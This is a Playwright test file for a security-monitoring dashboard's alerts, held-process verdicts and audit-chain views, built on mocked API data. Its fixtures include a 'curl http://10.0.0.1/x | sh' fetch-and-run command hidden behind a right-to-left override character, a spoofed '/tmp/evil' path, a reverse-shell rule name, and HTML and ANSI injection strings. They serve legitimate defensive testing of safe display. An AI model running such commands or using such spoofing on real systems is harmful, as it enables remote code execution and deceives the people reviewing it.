// SPDX-License-Identifier: Apache-2.0
// Alerts, held processes and the audit chain need a daemon with a kernel. The server over recordings has none of them, so
// these answers are written here, in the shapes of the interface; everything else is the real server's.
import type { Page } from "@playwright/test";
import type { Alert, AuditReport, Verdicts } from "../src/api/types";
import { expect, expectAccessible, settled, test } from "./fixtures";

const hour = (n: number) => new Date(Date.now() - n * 3_600_000).toISOString();
const alert = (id: string, title: string, more: Partial<Alert> = {}): Alert => ({
  id,
  key: id,
  title,
  severity: "high",
  techniques: ["T1059.004"],
  count: 3,
  first_seen: hour(2),
  last_seen: hour(1),
  state: "open",
  session: "s-2b639a9a",
  agent: "judged",
  rule: "shell-reverse-dev-tcp",
  announced: true,
  example_event: { id: "01M7YVXH0ST11E000000000003", time: hour(2), kind: "exec", process: {} },
  chain: [
    { pid: 2, exe: "/tmp/\u202eevil" },
    { pid: 1, exe: "/usr/bin/bash" },
  ],
  source: "rule",
  ...more,
});

async function serveAlerts(page: Page): Promise<{ alerts: Alert[]; changes: unknown[] }> {
  const alerts = [
    alert("a1", "a shell <b>talks</b>\u001b[31m"),
    alert("a2", "a key is read"),
    alert("a3", "events were lost", { source: "loss", severity: "medium" }),
  ];
  const changes: unknown[] = [];
  await page.route("**/api/v1/alerts?*", (route) => {
    const state = new URL(route.request().url()).searchParams.get("state");
    return route.fulfill({ json: { items: alerts.filter((one) => one.state === state), next: null } });
  });
  await page.route("**/api/v1/alerts/*", (route) => {
    const id = new URL(route.request().url()).pathname.split("/").pop();
    const change = route.request().postDataJSON();
    changes.push({ id, ...change, csrf: route.request().headers()["x-csrf-token"] !== undefined });
    const one = alerts.find((other) => other.id === id) as Alert;
    return route.fulfill({ json: Object.assign(one, change) });
  });
  await page.route("**/api/v1/silences", (route) => {
    if (route.request().method() === "GET") return route.fulfill({ json: { items: [], next: null } });
    changes.push(route.request().postDataJSON());
    return route.fulfill({ json: { id: "x", by: "me", ...route.request().postDataJSON() } });
  });
  return { alerts, changes };
}

test("alerts are worked through with the keyboard alone", async ({ entered: page }) => {
  const { changes } = await serveAlerts(page);
  await page.goto("/alerts");
  await settled(page);
  await expect(page.locator(".alert")).toHaveCount(3);
  await expect(page.locator(".alert").first()).toContainText("a shell <b>talks</b>\\x1b[31m");
  await page.keyboard.press("j");
  await expect(page.locator(".alert.selected")).toContainText("a shell");
  await expect(page.locator(".panes .side")).toContainText("/tmp/\\u{202e}evil");
  await expectAccessible(page);

  await page.keyboard.press("a");
  await expect(page.locator(".alert")).toHaveCount(2);
  await expect(page.locator(".alert.selected"), "the one below is chosen").toContainText("a key is read");
  await page.keyboard.press("n");
  await expect(page.getByLabel("Note")).toBeFocused();
  await page.keyboard.type("jac is text here");
  await page.keyboard.press("Control+Enter");
  await expect(page.getByText("note kept")).toBeVisible();
  await page.keyboard.press("Escape");
  await page.keyboard.press("c");
  await expect(page.locator(".alert")).toHaveCount(1);
  await expect(page.locator(".alert.selected"), "the last one is chosen").toHaveCount(1);
  expect(changes).toEqual([
    { id: "a1", state: "acknowledged", csrf: true },
    { id: "a2", note: "jac is text here", csrf: true },
    { id: "a2", state: "closed", csrf: true },
  ]);

  await page.keyboard.press("s");
  const dialog = page.getByRole("dialog", { name: "Silence alerts" });
  await expectAccessible(page);
  await dialog.getByLabel("Why").fill("a known build");
  await page.keyboard.press("Enter");
  await expect(page.getByText("silenced", { exact: true })).toBeVisible();
  expect(changes.at(-1)).toMatchObject({ match: { rule: "shell-reverse-dev-tcp" }, reason: "a known build" });

  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(/\/investigate\/01M7YVXH0ST11E000000000003/);
});

test("a held process is decided", async ({ entered: page }) => {
  const verdicts: Verdicts = {
    held: [
      {
        key: "i:00ff",
        pid: 4711,
        session: "s-2b639a9a",
        waiting_ms: 12_000,
        cmdline: "curl http://10.0.0.1/x\u202e | sh",
      },
    ],
    remembered: [
      {
        key: "i:0123",
        allow: false,
        expires_in_ms: 60_000,
        verdict: { action: "deny", tier: "rules", rule: "x", reason: "because" },
      },
    ],
  };
  const changes: unknown[] = [];
  await page.route("**/api/v1/verdicts", (route) => route.fulfill({ json: verdicts }));
  await page.route("**/api/v1/verdicts/*", (route) => {
    changes.push([route.request().method(), new URL(route.request().url()).pathname, route.request().postDataJSON()]);
    return route.fulfill({ json: { done: 1 } });
  });
  await page.goto("/verdicts");
  await settled(page);
  await expect(page.getByRole("row").filter({ hasText: "curl" })).toContainText("\\u{202e} | sh");
  await expectAccessible(page);
  await page.getByRole("row").filter({ hasText: "curl" }).getByRole("button", { name: "Deny" }).click();
  await expect(page.getByText("denied", { exact: true })).toBeVisible();
  await page.getByRole("button", { name: "Forget", exact: true }).click();
  await expect(page.getByText("it is judged anew")).toBeVisible();
  expect(changes).toEqual([
    ["PUT", "/api/v1/verdicts/4711", { action: "deny" }],
    ["DELETE", "/api/v1/verdicts/i%3A0123", null],
  ]);
});

test("a damaged chain is told in words, with its place", async ({ entered: page }) => {
  const report: AuditReport = {
    ok: false,
    entries: 900,
    head: "ab".repeat(32),
    checkpoints: 2,
    problems: [{ file: "audit-1.jsonl", line: 14, entry: 13, kind: "changed", message: "its hash differs" }],
    notes: ["no key was given"],
  };
  await page.route("**/api/v1/audit?*", (route) =>
    route.fulfill({
      json: {
        items: [
          {
            n: 900,
            time: hour(1),
            kind: "login",
            data: { role: "viewer" },
            personal: [{ id: "00ff", subject: "token:ann", state: "open", text: { who: { token: "ann" } } }],
          },
        ],
        next: null,
      },
    }),
  );
  await page.route("**/api/v1/audit/verify", (route) => route.fulfill({ json: report }));
  await page.goto("/audit");
  await settled(page);
  await expect(page.getByRole("row").filter({ hasText: "login" })).toContainText("ann");
  await page.getByRole("button", { name: "Verify the chain" }).click();
  await expect(page.getByText("The chain is damaged.")).toBeVisible();
  await expect(page.getByText("audit-1.jsonl, line 14, entry 13:")).toBeVisible();
  await expectAccessible(page);
  report.ok = true;
  report.problems = [];
  await page.getByRole("button", { name: "Verify the chain" }).click();
  await expect(page.getByText("The chain is whole.")).toBeVisible();
});

test("a viewer sees, and is told why nothing can be decided", async ({ entered: page }) => {
  await serveAlerts(page);
  await page.route("**/api/v1/me", (route) => route.fulfill({ json: { name: "vera", role: "viewer", csrf: "x" } }));
  await page.goto("/alerts");
  await settled(page);
  await page.keyboard.press("j");
  await expect(page.getByRole("button", { name: /Acknowledge/ })).toBeDisabled();
  await page.keyboard.press("a");
  await expect(page.getByText("this needs the role operator")).toBeVisible();
  await page.goto("/rules/files?file=shells.yaml");
  await expect(page.getByText("saving needs the role admin")).toBeVisible();
});
